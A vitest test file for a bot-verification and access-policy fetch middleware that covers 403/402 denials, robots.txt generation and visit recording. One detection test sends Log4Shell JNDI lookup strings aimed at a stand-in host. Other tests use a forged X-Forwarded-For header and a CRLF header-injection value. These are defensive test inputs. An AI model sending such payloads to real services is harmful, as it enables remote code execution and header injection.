// The fetch middleware and the access policy it applies: identification with the platform's
// address, denials (403/402), allow-verified, report-only, /robots.txt, and the visit recorded.
import { afterEach, describe, expect, it } from 'vitest';
import {
  agentwardenResult,
  checkFetchRequest,
  createAccessPolicy,
  createAgentwarden,
  createEngine,
  createFetchMiddleware,
  createMemoryVisitStore,
  createStoreSink,
  detectPlatform,
  recordFetchResponse,
  webBotAuthVerifier,
  withAgentwarden,
  AGENT_TYPES,
  type AccessPolicyOptions,
  type SinkVisit,
  type VerificationOutcome,
  type VisitSink,
} from '../../src/index.js';
import { startTestServer, type TestServer } from '../server/helpers.js';
import { BROWSER_UA, CLAUDEBOT_UA, embedEngine, GOOGLEBOT_UA, GPTBOT_UA, LOOPBACK_STAND_IN, startStub } from './fixtures.js';

/** A sink that keeps what it is given: the test is about what the middleware hands over. */
function collectingSink(): VisitSink & { visits: SinkVisit[]; verdicts: (VerificationOutcome | undefined)[] } {
  const visits: SinkVisit[] = [];
  const verdicts: (VerificationOutcome | undefined)[] = [];
  return { visits, verdicts, push: (v, verdict) => void (visits.push(v), verdicts.push(verdict)), flush: async () => {}, close: async () => {} };
}

const app = (request: Request) => new Response(`hello ${new URL(request.url).pathname}`, { headers: { 'content-type': 'text/plain', 'x-app': '1' } });
const get = (path: string, ua: string, headers: Record<string, string> = {}) => new Request(`http://site.example${path}`, { headers: { 'user-agent': ua, ...headers } });
const LOOPBACK = { clientIp: '127.0.0.1' };

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  while (cleanups.length > 0) await cleanups.pop()!();
});

function middleware(policy?: AccessPolicyOptions) {
  const sink = collectingSink();
  const run = createFetchMiddleware({ engine: embedEngine(), sink, ...(policy === undefined ? {} : { policy }) });
  return { run, sink };
}

describe('fetch middleware', () => {
  it('verifies by the platform address, puts the result on the request, and records the visit after the response', async () => {
    const { run, sink } = middleware();
    let seen: ReturnType<typeof agentwardenResult>;
    const response = await run(get('/a?b=1', GOOGLEBOT_UA, { cookie: 'secret=1' }), (request) => ((seen = agentwardenResult(request)), app(request)), { clientIp: '::ffff:127.0.0.1' });
    expect(await response.text()).toBe('hello /a');
    expect(seen).toMatchObject({ result: 'verified', clientIp: '127.0.0.1', decision: undefined, blocked: false });
    expect(seen!.identification).toMatchObject({ agent_id: 'googlebot', verification: { method: 'ip-ranges' } });
    expect(sink.visits).toHaveLength(1);
    const visit = sink.visits[0]!;
    expect(visit).toMatchObject({ request_path: '/a?b=1', request_method: 'GET', response_status_code: 200, client_ip: '127.0.0.1' });
    expect(visit.request_headers).toMatchObject({ 'user-agent': GOOGLEBOT_UA, host: 'site.example' });
    expect(visit.response_headers).toMatchObject({ 'content-type': 'text/plain', 'x-app': '1' });
    expect(visit.response_duration_in_milliseconds).toBeGreaterThanOrEqual(0);
    expect(Date.parse(visit.created!)).toBeGreaterThan(0);
    expect(visit.decision).toBeUndefined();
    expect(sink.verdicts[0]).toBe(seen!.identification);
  });

  it('trusts a header only through the clientIp rule, and the socket address otherwise', async () => {
    const { run } = middleware();
    let result: ReturnType<typeof agentwardenResult>;
    // A forged X-Forwarded-For does not move the address: the socket (loopback, Googlebot's range here) decides.
    await run(get('/', GOOGLEBOT_UA, { 'x-forwarded-for': '192.0.2.1' }), (r) => ((result = agentwardenResult(r)), app(r)), LOOPBACK);
    expect(result).toMatchObject({ clientIp: '127.0.0.1', result: 'verified' });
    const { createClientIpRule } = await import('../../src/index.js');
    const trusting = createFetchMiddleware({ engine: embedEngine(), clientIp: createClientIpRule({ headers: ['x-forwarded-for'] }) });
    await trusting(get('/', GOOGLEBOT_UA, { 'x-forwarded-for': '192.0.2.1' }), (r) => ((result = agentwardenResult(r)), app(r)), LOOPBACK);
    expect(result).toMatchObject({ clientIp: '192.0.2.1', result: 'verification_failed' });
    // A rule given to the engine is the middleware's too when it is given none of its own.
    const viaEngine = createFetchMiddleware({ engine: embedEngine({ clientIp: createClientIpRule({ headers: ['x-forwarded-for'] }) }) });
    await viaEngine(get('/', GOOGLEBOT_UA, { 'x-forwarded-for': '192.0.2.1' }), (r) => ((result = agentwardenResult(r)), app(r)), LOOPBACK);
    expect(result).toMatchObject({ clientIp: '192.0.2.1', result: 'verification_failed' });
    // A client reaching the site directly (a public address, none of the rule's proxies) speaks for
    // itself: its X-Forwarded-For naming Googlebot's range does not make it Googlebot.
    await trusting(get('/', GOOGLEBOT_UA, { 'x-forwarded-for': LOOPBACK_STAND_IN }), (r) => ((result = agentwardenResult(r)), app(r)), { clientIp: '192.0.2.9' });
    expect(result).toMatchObject({ clientIp: '192.0.2.9', result: 'verification_failed' });
  });

  it('takes the address from the rule\'s header where the platform gives none (Next.js 15 on Vercel: x-real-ip), and has none without a rule', async () => {
    const { createClientIpRule } = await import('../../src/index.js');
    let result: ReturnType<typeof agentwardenResult>;
    const vercel = createFetchMiddleware({ engine: embedEngine(), clientIp: createClientIpRule({ headers: ['x-real-ip'] }) });
    await vercel(get('/', GOOGLEBOT_UA, { 'x-real-ip': LOOPBACK_STAND_IN }), (r) => ((result = agentwardenResult(r)), app(r)));
    expect(result).toMatchObject({ clientIp: LOOPBACK_STAND_IN, result: 'verified' });
    const { run } = middleware();
    await run(get('/', GOOGLEBOT_UA, { 'x-real-ip': LOOPBACK_STAND_IN }), (r) => ((result = agentwardenResult(r)), app(r)));
    expect(result).toMatchObject({ clientIp: undefined, result: 'not_verifiable' });
  });

  it('hands a Web Bot Auth request to the verifier: a Fetch Headers has no :authority to throw on', async () => {
    const run = createFetchMiddleware({ engine: createEngine({ catalog: embedEngine().catalog, verifiers: [webBotAuthVerifier()] }) });
    let result: ReturnType<typeof agentwardenResult>;
    // An Ed25519 signature is 64 bytes; this one is 3: checked, and evidence.
    const signed = get('/', GPTBOT_UA, { 'signature-input': 'sig1=("@authority");created=1;expires=2;keyid="k";tag="web-bot-auth"', signature: 'sig1=:AAAA:' });
    await run(signed, (r) => ((result = agentwardenResult(r)), app(r)), LOOPBACK);
    expect(result!.identification.verification.checks).toEqual([{ method: 'web-bot-auth', outcome: 'fail', reason: 'signature-malformed' }]);
  });

  it('records no status, headers or duration for a response handed on to the page (Next.js NextResponse.next(), rewrite())', async () => {
    const { run, sink } = middleware();
    const handedOn: Record<string, string>[] = [{ 'x-middleware-next': '1' }, { 'x-middleware-rewrite': 'https://site.example/en/page' }];
    for (const headers of handedOn) await run(get('/page', GOOGLEBOT_UA), () => new Response(null, { headers }), LOOPBACK);
    // Its own answer, a denial, keeps them.
    const denied = createFetchMiddleware({ engine: embedEngine(), sink, policy: { denyAgentTypes: ['AI Data Scraper'] } });
    await denied(get('/page', GPTBOT_UA), () => new Response(null, { headers: { 'x-middleware-next': '1' } }), LOOPBACK);
    expect(sink.visits).toHaveLength(3);
    for (const visit of sink.visits.slice(0, 2)) {
      expect(visit).toMatchObject({ request_path: '/page', client_ip: '127.0.0.1' });
      expect(Object.keys(visit).filter((key) => key.startsWith('response_'))).toEqual([]);
    }
    expect(sink.visits[2]).toMatchObject({ response_status_code: 403, is_blocked: true });
    expect(sink.visits[2]!.response_duration_in_milliseconds).toBeGreaterThanOrEqual(0);
  });

  it('records a 500 when the application throws, and rethrows', async () => {
    const { run, sink } = middleware();
    await expect(
      run(get('/boom', BROWSER_UA), () => {
        throw new Error('app failed');
      }),
    ).rejects.toThrow('app failed');
    expect(sink.visits[0]).toMatchObject({ request_path: '/boom', response_status_code: 500 });
  });

  it('skips what `skip` says: no check, no visit', async () => {
    const sink = collectingSink();
    const run = createFetchMiddleware({ engine: embedEngine(), sink, skip: ({ path }) => path.startsWith('/static/') });
    await run(get('/static/app.js', GPTBOT_UA), app, LOOPBACK);
    await run(get('/page', GPTBOT_UA), app, LOOPBACK);
    expect(sink.visits.map((v) => v.request_path)).toEqual(['/page']);
  });
});

describe('access policy in the middleware', () => {
  it('denies a spoofed agent with 403 and records the rule; a real one passes', async () => {
    const { run, sink } = middleware({ denyVerificationFailed: true });
    const denied = await run(get('/', GPTBOT_UA), app, LOOPBACK); // GPTBot's range is not loopback: spoofed
    expect(denied.status).toBe(403);
    expect(denied.headers.get('cache-control')).toBe('no-store');
    expect(await denied.text()).toContain('Forbidden');
    const allowed = await run(get('/', GOOGLEBOT_UA), app, LOOPBACK);
    expect(allowed.status).toBe(200);
    expect(sink.visits.map((v) => [v.response_status_code, v.is_blocked, v.decision?.rule])).toEqual([
      [403, true, 'deny-verification-failed'],
      [200, undefined, undefined],
    ]);
  });

  it('denies Security Scanners: a Log4Shell lookup in a Fetch Headers\' other header or the query is one, behind a browser User-Agent', async () => {
    const { run, sink } = middleware({ denyAgentTypes: ['Security Scanner'] });
    expect((await run(get('/', BROWSER_UA, { referer: '${jndi:ldap://198.51.100.7/a}' }), app, LOOPBACK)).status).toBe(403);
    expect((await run(get('/?q=${jndi:dns://198.51.100.7/a}', BROWSER_UA), app, LOOPBACK)).status).toBe(403);
    expect((await run(get('/?q={x}', BROWSER_UA, { cookie: 'prefs={"a":1}' }), app, LOOPBACK)).status).toBe(200);
    expect(sink.visits.map((v) => [v.response_status_code, v.decision?.rule])).toEqual([
      [403, 'deny-agent-type'],
      [403, 'deny-agent-type'],
      [200, undefined],
    ]);
  });

  it('answers denied types with 402 and the configured body and headers (pay-per-crawl)', async () => {
    const { run } = middleware({ denyAgentTypes: ['AI Data Scraper'], denyResponse: { status: 402, body: '{"price":"0.01"}', contentType: 'application/json', headers: { 'crawler-price': 'USD 0.01' } } });
    const response = await run(get('/article', CLAUDEBOT_UA), app, LOOPBACK);
    expect(response.status).toBe(402);
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(response.headers.get('crawler-price')).toBe('USD 0.01');
    expect(await response.text()).toBe('{"price":"0.01"}');
    expect((await run(get('/article', BROWSER_UA), app, LOOPBACK)).status).toBe(200);
  });

  it('denies chosen agents by id, and always allows verified agents of chosen types', async () => {
    const { run, sink } = middleware({ denyAgents: ['claudebot'], denyAgentTypes: ['Search Engine Crawler'], allowVerifiedAgentTypes: ['Search Engine Crawler'] });
    expect((await run(get('/', CLAUDEBOT_UA), app, LOOPBACK)).status).toBe(403);
    // Googlebot from loopback is verified: allowed despite its type being denied.
    expect((await run(get('/', GOOGLEBOT_UA), app, LOOPBACK)).status).toBe(200);
    // From an address outside its range it is not verified, so the type rule denies it.
    expect((await run(get('/', GOOGLEBOT_UA), app, { clientIp: '198.51.100.1' })).status).toBe(403);
    expect(sink.visits.map((v) => v.decision?.rule)).toEqual(['deny-agent', 'allow-verified', 'deny-agent-type']);
  });

  it('denies an unlisted bot by its id or by type Uncategorized; robots.txt names only catalog agents', async () => {
    const byId = middleware({ denyAgents: ['unlisted:AcmeBot', 'googlebot'], robotsTxt: true });
    expect((await byId.run(get('/', 'AcmeBot/2.1 (+https://acme.example/bot)'), app, LOOPBACK)).status).toBe(403);
    expect((await byId.run(get('/', 'OtherBot/1.0'), app, LOOPBACK)).status).toBe(200);
    expect(await (await byId.run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text()).toBe('User-agent: Googlebot\nDisallow: /\n');
    expect(byId.sink.visits.map((v) => [v.request_headers['user-agent'], v.decision?.rule])).toEqual([
      ['AcmeBot/2.1 (+https://acme.example/bot)', 'deny-agent'],
      ['OtherBot/1.0', undefined],
      [BROWSER_UA, undefined],
    ]);
    const byType = middleware({ denyAgentTypes: ['Uncategorized'] });
    expect((await byType.run(get('/', 'OtherBot/1.0'), app, LOOPBACK)).status).toBe(403);
    expect((await byType.run(get('/', BROWSER_UA), app, LOOPBACK)).status).toBe(200);
    // robots.txt would have nothing to say: an empty file in place of the site's own is refused,
    // saying what to do; the site's own lines alone are served.
    expect(() => middleware({ denyAgents: ['unlisted:AcmeBot'], robotsTxt: true })).toThrow(/this policy has none .*would serve an empty robots.txt in place of your own; .*siteRobotsTxt/);
    expect(() => middleware({ denyVerificationFailed: true, robotsTxt: true })).toThrow(/would serve an empty robots.txt/);
    const ownLines = middleware({ denyVerificationFailed: true, robotsTxt: { siteRobotsTxt: 'User-agent: *\nDisallow: /admin\n' } });
    expect(await (await ownLines.run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text()).toBe('User-agent: *\nDisallow: /admin\n');
  });

  it('names the id of an agent given by its name or robots token where denyAgents takes ids', () => {
    expect(() => middleware({ denyAgents: ['GPTBot'] })).toThrow(`denyAgents[0] is not an agent of the catalog: "GPTBot"; denyAgents takes catalog ids: GPTBot's is "gptbot"`);
    expect(() => middleware({ denyAgents: ['NoSuchBot'] })).toThrow(/not an agent of the catalog: "NoSuchBot" \(agents are named by their catalog id/);
  });

  it('in report-only mode records the decision and lets the request through', async () => {
    const { run, sink } = middleware({ denyVerificationFailed: true, reportOnly: true });
    let result: ReturnType<typeof agentwardenResult>;
    const response = await run(get('/', GPTBOT_UA), (r) => ((result = agentwardenResult(r)), app(r)), LOOPBACK);
    expect(response.status).toBe(200);
    expect(result).toMatchObject({ blocked: false, decision: { rule: 'deny-verification-failed', action: 'deny', report_only: true } });
    expect(sink.visits[0]).toMatchObject({ is_blocked: false, decision: { rule: 'deny-verification-failed', action: 'deny', report_only: true } });
  });

  it('serves /robots.txt rendered from the deny rules, to denied agents too, with an ETag', async () => {
    const { run, sink } = middleware({ denyAgentTypes: ['AI Data Scraper'], robotsTxt: true });
    const response = await run(get('/robots.txt', GPTBOT_UA), app, LOOPBACK);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    const text = await response.text();
    expect(text).toBe(embedEngine().robotsTxt({ agent_types: ['AI Data Scraper'] }));
    expect(text).toContain('User-agent: GPTBot\nDisallow: /');
    const etag = response.headers.get('etag')!;
    const again = await run(get('/robots.txt', GPTBOT_UA, { 'if-none-match': etag }), app, LOOPBACK);
    expect(again.status).toBe(304);
    expect(sink.visits.map((v) => [v.request_path, v.response_status_code, v.decision])).toEqual([
      ['/robots.txt', 200, undefined],
      ['/robots.txt', 304, undefined],
    ]);
  });

  it('serves /robots.txt also for its letters percent-encoded (the same resource, which frameworks route to a route of the site\'s own), and nothing else', async () => {
    const { run } = middleware({ denyAgentTypes: ['AI Data Scraper'], robotsTxt: true });
    const expected = embedEngine().robotsTxt({ agent_types: ['AI Data Scraper'] });
    for (const path of ['/robots%2Etxt', '/robots%2etxt', '/%72obots.txt?x=1', '/%72%6F%62%6F%74%73%2E%74%78%74']) {
      expect(await (await run(get(path, BROWSER_UA), app, LOOPBACK)).text(), path).toBe(expected);
    }
    // A reserved character encoded is another path (RFC 3986 §2.2), and so is another case.
    for (const path of ['/robots%2Etxt%2F', '/a%2Frobots.txt', '/ROBOTS%2ETXT', '/robots%252Etxt']) {
      expect(await (await run(get(path, BROWSER_UA), app, LOOPBACK)).text(), path).not.toBe(expected);
    }
  });

  it('serves /robots.txt that also disallows the denied agents by name, and allows the agents it names', async () => {
    const { run } = middleware({ denyAgents: ['googlebot'], robotsTxt: true });
    expect(await (await run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text()).toBe('User-agent: Googlebot\nDisallow: /\n');
    const scrapers = middleware({ denyAgentTypes: ['AI Data Scraper'], robotsTxt: { allowAgents: ['ClaudeBot'] } });
    const text = await (await scrapers.run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text();
    expect(text).toBe(embedEngine().robotsTxt({ agent_types: ['AI Data Scraper'], allow_agents: ['claudebot'] }));
    expect(text).toContain('User-agent: ClaudeBot\nAllow: /\n');
    expect(text).toContain('User-agent: GPTBot\nDisallow: /\n');
  });

  it("serves the site's own robots.txt first (its * group, its Sitemap), then agentwarden's groups, with an ETag of the whole; refuses one too large", async () => {
    const site = 'User-agent: *\nDisallow: /admin\n\nSitemap: https://example.com/sitemap.xml';
    const { run } = middleware({ denyAgents: ['gptbot'], robotsTxt: { siteRobotsTxt: site } });
    const response = await run(get('/robots.txt', BROWSER_UA), app, LOOPBACK);
    const text = await response.text();
    expect(text).toBe(`${site}\n\nUser-agent: GPTBot\nDisallow: /\n`);
    const etag = response.headers.get('etag')!;
    expect(etag).not.toBe(embedEngine().renderRobotsTxt({ agent_types: [], disallow_agents: ['gptbot'] }).etag);
    expect((await run(get('/robots.txt', BROWSER_UA, { 'if-none-match': etag }), app, LOOPBACK)).status).toBe(304);
    expect(() => middleware({ denyAgents: ['gptbot'], robotsTxt: { siteRobotsTxt: 'x'.repeat(64 * 1024 + 1) } })).toThrow('robotsTxt.siteRobotsTxt is 65537 bytes; at most 65536');
    expect(() => middleware({ denyAgents: ['gptbot'], robotsTxt: { siteRobotsTxt: 42 as unknown as string } })).toThrow(TypeError);
    expect(() => middleware({ denyAgents: ['gptbot'], robotsTxt: { url: 'https://user:s3cret@aw.example', token: 't' } })).toThrow(/^robotsTxt.url must not carry a user name or password: [^3]*$/);
    // A last group without rules (a Crawl-delay only) would run on into the policy's first group
    // and take its rules (Googlebot, reading *, told Disallow: /): it is closed with an empty Disallow.
    const delayed = middleware({ denyAgents: ['gptbot'], robotsTxt: { siteRobotsTxt: 'User-agent: *\nCrawl-delay: 10' } });
    expect(await (await delayed.run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text()).toBe(
      'User-agent: *\nCrawl-delay: 10\nDisallow: # added by agentwarden: ends the group above, whose crawlers may go anywhere\n\nUser-agent: GPTBot\nDisallow: /\n',
    );
    // Google's parser takes whitespace for the colon: such a last line is a group too, and closed.
    const colonless = middleware({ denyAgents: ['gptbot'], robotsTxt: { siteRobotsTxt: 'User-agent: *\nDisallow: /admin\n\nUser-agent Googlebot\n' } });
    expect(await (await colonless.run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text()).toContain('User-agent Googlebot\nDisallow: # added by agentwarden');
    // A group for an agent the policy names would merge with the policy's (GPTBot allowed there, denied at the door),
    // however a parser reads its name: any case, with a version, under a misspelt field name.
    for (const line of ['User-agent: gptbot # ours', 'User-agent: GPTBot/1.2', 'Useragent: GPTBot', 'User-agent: GPTBot*', 'User-agent: GPTBot (+https://openai.com/gptbot)', 'User-agent GPTBot']) {
      expect(() => middleware({ denyAgents: ['gptbot'], robotsTxt: { siteRobotsTxt: `User-agent: *\nDisallow: /admin\n\n${line}\nAllow: /\n` } })).toThrow(/robotsTxt.siteRobotsTxt has a group for .+, which the policy's robots.txt names too/);
    }
  });

  it('leaves out of robots.txt the types it lets in when verified: their genuine crawlers read robots.txt (and the site\'s own * group), the spoofers are denied at the door', async () => {
    const { run } = middleware({ denyVerificationFailed: true, denyAgentTypes: ['Search Engine Crawler', 'AI Data Scraper'], allowVerifiedAgentTypes: ['Search Engine Crawler'], denyAgents: ['googlebot', 'claudebot'], robotsTxt: true });
    const text = await (await run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text();
    expect(text).toBe(embedEngine().robotsTxt({ agent_types: ['AI Data Scraper'], disallow_agents: ['claudebot'] }));
    expect(text).not.toMatch(/^User-agent: Googlebot$/m);
    // Deny unless verified, and nothing else: robots.txt names nobody (the site's own lines, else empty).
    const unlessVerified = middleware({ denyAgentTypes: ['Search Engine Crawler'], allowVerifiedAgentTypes: ['Search Engine Crawler'], robotsTxt: true });
    const empty = await unlessVerified.run(get('/robots.txt', BROWSER_UA), app, LOOPBACK);
    expect(empty.status).toBe(200);
    expect(await empty.text()).toBe('');
    const ownOnly = middleware({ denyAgentTypes: ['Search Engine Crawler'], allowVerifiedAgentTypes: ['Search Engine Crawler'], robotsTxt: { siteRobotsTxt: 'User-agent: *\nDisallow: /admin\n' } });
    expect(await (await ownOnly.run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text()).toBe('User-agent: *\nDisallow: /admin\n');
    // Named in denyAgents: left out only when the engine's verifiers can verify it (none here).
    const unverifying = createFetchMiddleware({ engine: createEngine({ catalog: embedEngine().catalog }), policy: { denyAgentTypes: ['AI Data Scraper'], allowVerifiedAgentTypes: ['Search Engine Crawler'], denyAgents: ['googlebot'], robotsTxt: true } });
    expect(await (await unverifying(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text()).toContain('User-agent: Googlebot\nDisallow: /\n');
  });

  it("renders robots.txt for every bundled type left to verification beside a denied one, and keeps the site's own * group for their crawlers", async () => {
    const { createNodeVerifiers } = await import('../../src/adapters/node/index.js');
    const engine = createEngine({ verifiers: createNodeVerifiers() });
    expect(engine.verifierNames).toEqual(['web-bot-auth', 'ip-ranges', 'reverse-dns']);
    for (const type of AGENT_TYPES.filter((t) => t !== 'AI Data Scraper')) {
      const run = createFetchMiddleware({ engine, policy: { denyAgentTypes: ['AI Data Scraper', type], allowVerifiedAgentTypes: [type], robotsTxt: { siteRobotsTxt: 'User-agent: *\nDisallow: /admin\n' } } });
      const text = await (await run(get('/robots.txt', BROWSER_UA), app, LOOPBACK)).text();
      expect(text.startsWith('User-agent: *\nDisallow: /admin\n\n')).toBe(true);
      if (type === 'Search Engine Crawler') expect(text).not.toMatch(/^User-agent: Googlebot$/m);
    }
  });

  it('serves /robots.txt fetched from an agentwarden server, and renders it locally while the server is unreachable', async () => {
    const srv: TestServer = await startTestServer();
    cleanups.push(() => srv.stop());
    const { token } = srv.store.createProject('robots.example');
    let fetches = 0;
    const counting: typeof fetch = (input, init) => (fetches++, fetch(input, init));
    const run = createFetchMiddleware({ engine: createEngine(), policy: { robotsTxt: { url: srv.url, token, agentTypes: ['AI Data Scraper'], disallow: '/private', fetch: counting } } });
    const text = await (await run(get('/robots.txt', BROWSER_UA), app)).text();
    expect(text).toContain('Disallow: /private');
    // The server's catalog (the test catalog) is not the site engine's: the text is the server's.
    expect(text).toBe((await (await fetch(`${srv.url}/robots-txts`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify({ agent_types: ['AI Data Scraper'], disallow: '/private' }) })).text()));
    await run(get('/robots.txt', BROWSER_UA), app);
    expect(fetches).toBe(1); // cached for a day
    // The site's own lines go first here too.
    const withSite = createFetchMiddleware({ engine: createEngine(), policy: { robotsTxt: { url: srv.url, token, agentTypes: ['AI Data Scraper'], disallow: '/private', siteRobotsTxt: 'Sitemap: https://example.com/sitemap.xml\n' } } });
    expect(await (await withSite(get('/robots.txt', BROWSER_UA), app)).text()).toBe(`Sitemap: https://example.com/sitemap.xml\n\n${text}`);

    const offline = createFetchMiddleware({ engine: embedEngine(), policy: { robotsTxt: { url: 'http://127.0.0.1:9', token: 't', agentTypes: ['AI Data Scraper'] } } });
    expect(await (await offline(get('/robots.txt', BROWSER_UA), app)).text()).toBe(embedEngine().robotsTxt({ agent_types: ['AI Data Scraper'] }));
  });

  it('renders /robots.txt locally when the server it is fetched from redirects or answers without end (the token is not sent on, the body not read past 500 KB)', async () => {
    let elsewhere = 0;
    const other = await startStub((_req, res) => (elsewhere++, res.writeHead(200, { 'content-type': 'text/plain' }).end('User-agent: *\nDisallow: /\n')));
    cleanups.push(() => other.close());
    const redirecting = await startStub((_req, res) => res.writeHead(308, { location: other.url }).end());
    cleanups.push(() => redirecting.close());
    let written = 0;
    const endless = await startStub((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' });
      const chunk = Buffer.from('Disallow: /x\n'.repeat(4096));
      const pour = () => {
        while (!res.destroyed && res.write(chunk)) written += chunk.length;
        if (!res.destroyed) res.once('drain', pour);
      };
      pour();
    });
    cleanups.push(() => endless.close());
    const local = embedEngine().robotsTxt({ agent_types: ['AI Data Scraper'] });
    for (const url of [redirecting.url, endless.url]) {
      const run = createFetchMiddleware({ engine: embedEngine(), policy: { robotsTxt: { url, token: 'site-token', agentTypes: ['AI Data Scraper'] } } });
      const started = Date.now();
      expect(await (await run(get('/robots.txt', BROWSER_UA), app)).text()).toBe(local);
      expect(Date.now() - started).toBeLessThan(5000);
    }
    expect(elsewhere).toBe(0);
    await new Promise((resolve) => setTimeout(resolve, 200));
    const settled = written;
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(written).toBe(settled);
    expect(written).toBeLessThan(64 * 1024 * 1024);
  });

  it.each([
    [{ denyAgentTypes: ['AI Scrapers'] }, RangeError, /denyAgentTypes\[0\]/],
    [{ denyAgents: ['nobody'] }, RangeError, /denyAgents\[0\]/],
    [{ denyAgents: 'gptbot' }, TypeError, /denyAgents/],
    [{ denyVerificationFailed: 'yes' }, TypeError, /denyVerificationFailed/],
    [{ denyResponse: { status: 451 } }, RangeError, /denyResponse.status/],
    [{ denyResponse: { headers: { 'x-a': 'b\r\nc' } } }, RangeError, /denyResponse.headers/],
    [{ denyVerifiedFailed: true }, RangeError, /policy.denyVerifiedFailed is not an option/],
    [{ robotsTxt: true }, RangeError, /robotsTxt/],
    [{ denyAgentTypes: ['AI Data Scraper'], robotsTxt: { allowAgents: ['NoSuchBot'] } }, RangeError, /robotsTxt: \/allow_agents\/0: "NoSuchBot" is neither an agent id nor a robots token/],
    [{ robotsTxt: { url: 'http://x' } , denyAgentTypes: ['AI Data Scraper'] }, TypeError, /robotsTxt.token/],
  ])('refuses the policy %j at creation', (policy, type, message) => {
    const create = () => createAccessPolicy(policy as never, embedEngine().catalog);
    expect(create).toThrow(type);
    expect(create).toThrow(message);
  });
});

describe('checkFetchRequest and recordFetchResponse for adapters of their own', () => {
  it('take the Request and the handler\'s outcome, and still the earlier form (the client address; the status and headers)', async () => {
    const sink = collectingSink();
    const core = createAgentwarden({ engine: embedEngine(), sink });
    const request = get('/page', GPTBOT_UA);
    const check = await checkFetchRequest(core, request, { clientIp: '203.0.113.7' });
    recordFetchResponse(core, check, request, new Response('gone', { status: 410 }));
    const earlier = await checkFetchRequest(core, request, '203.0.113.8');
    expect(earlier.clientIp).toBe('203.0.113.8');
    recordFetchResponse(core, earlier, 404, new Headers({ 'content-type': 'text/plain' }));
    recordFetchResponse(core, await checkFetchRequest(core, request, '203.0.113.9'), 500, undefined);
    expect(sink.visits.map((v) => [v.client_ip, v.response_status_code, v.response_headers?.['content-type']])).toEqual([
      ['203.0.113.7', 410, 'text/plain;charset=UTF-8'],
      ['203.0.113.8', 404, 'text/plain'],
      ['203.0.113.9', 500, undefined],
    ]);
  });
});

describe('withAgentwarden and platforms', () => {
  it('reads the address and waitUntil from Workers, Deno, Bun and Next.js handler arguments', () => {
    const request = get('/', BROWSER_UA);
    const waits: Promise<unknown>[] = [];
    const ctx = { waitUntil: (p: Promise<unknown>) => waits.push(p) };
    expect(detectPlatform(request, [{}, ctx]).waitUntil).toBeTypeOf('function');
    expect(detectPlatform(request, [{ remoteAddr: { hostname: '203.0.113.1', port: 1, transport: 'tcp' } }]).clientIp).toBe('203.0.113.1');
    expect(detectPlatform(request, [{ requestIP: (r: Request) => (r === request ? { address: '203.0.113.2' } : null) }]).clientIp).toBe('203.0.113.2');
    expect(detectPlatform(request, [{ incoming: { socket: { remoteAddress: '203.0.113.3' } } }]).clientIp).toBe('203.0.113.3');
    // Outside Cloudflare Workers a CF-Connecting-IP header is just a header anyone can send.
    expect(detectPlatform(get('/', BROWSER_UA, { 'cf-connecting-ip': '203.0.113.4' }), []).clientIp).toBeUndefined();
  });

  it('wraps a handler: arguments pass through, the visit is flushed with waitUntil', async () => {
    const store = createMemoryVisitStore();
    const waits: Promise<unknown>[] = [];
    const handler = withAgentwarden((request: Request, env: { greeting: string }, _ctx: unknown) => new Response(`${env.greeting} ${agentwardenResult(request)?.result}`), {
      engine: embedEngine(),
      sink: createStoreSink({ store, projectId: 'prj_1' }),
    });
    const response = await handler(get('/', CLAUDEBOT_UA), { greeting: 'hi' }, { waitUntil: (p: Promise<unknown>) => waits.push(p) });
    expect(await response.text()).toBe('hi not_verifiable');
    expect(waits).toHaveLength(1);
    await Promise.all(waits);
    const [stored] = await store.timeline({ projectId: 'prj_1', limit: 10 });
    expect(stored).toMatchObject({ agent_id: 'claudebot', result: 'not_verifiable', response_status_code: 200 });
  });

  it('without a sink (none, or an empty list) asks the platform to wait for nothing, and the policy still answers', async () => {
    for (const sink of [undefined, []]) {
      const waits: Promise<unknown>[] = [];
      const handler = withAgentwarden((request: Request, _env: unknown, _ctx: unknown) => new Response(String(agentwardenResult(request)?.result)), {
        engine: embedEngine(),
        ...(sink === undefined ? {} : { sink }),
        policy: { denyAgentTypes: ['AI Data Scraper'] },
      });
      const platform = { waitUntil: (p: Promise<unknown>) => waits.push(p) };
      expect(await (await handler(get('/', GOOGLEBOT_UA), undefined, platform)).text()).toBe('not_verifiable');
      expect((await handler(get('/', GPTBOT_UA), undefined, platform)).status).toBe(403);
      expect(waits).toEqual([]);
    }
  });
});
